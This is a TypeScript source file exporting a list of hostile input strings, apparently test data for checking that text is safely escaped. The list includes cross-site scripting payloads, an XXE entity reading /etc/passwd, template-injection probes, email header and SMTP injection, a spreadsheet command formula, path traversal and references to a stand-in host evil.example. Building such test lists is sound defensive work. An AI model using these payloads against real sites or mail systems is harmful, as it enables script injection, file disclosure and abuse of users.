/** Ways in which a text has become markup, a link or a command somewhere before. */
export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script>', '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '<img src=x onerror=alert(1)//', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="data:text/html,<script>alert(1)</script>">', '<embed src=//evil.example>', '<link rel=stylesheet href=//evil.example>',
  '<style>@import "//evil.example";</style>', '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=//evil.example">', '<form action=//evil.example><button>ok', '<body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>', '<details open ontoggle=alert(1)>',
  '</title><script>alert(1)</script>', '</style><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '</td></tr></table><script>alert(1)</script>', '--><script>alert(1)</script>', '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>', ']]><script>alert(1)</script>', '<?xml version="1.0"?><x/>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;', '&amp;lt;b&amp;gt;', '&e;',
  '" onmouseover="alert(1)', "' onmouseover='alert(1)", '` onmouseover=`alert(1)', '" style="position:fixed;inset:0', 'x" href="javascript:alert(1)', 'javascript:alert(1)', 'data:text/html;base64,PHNjcmlwdD4=', 'vbscript:msgbox(1)',
  '[klik](javascript:alert(1))', '![x](https://evil.example/pixel.gif)', '<a href="https://evil.example">klik</a>', '<https://evil.example|klik>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= 7*7 %>', '#{7*7}',
  'x\r\nBcc: evil@z.example', 'x\nSubject: evil', 'x\r\n\r\n<b>', '=?utf-8?q?=0D=0ABcc:evil?=', '\u202Egnp.exe', '\u2066\u2069\u200F', 'a\u0000b', '\uD800', '\uFFFE', '\u{E0041}\u{E007F}', '\u2028alert(1)\u2029', '😀'.repeat(50), 'a'.repeat(5000), '<'.repeat(500),
  'BEGIN:VEVENT', '.\r\n.\r\nMAIL FROM:<evil@z.example>', '=cmd|calc!A1', '../../etc/passwd', '%0d%0aBcc:evil', '\u001b[31mrood\u001b[0m',
];
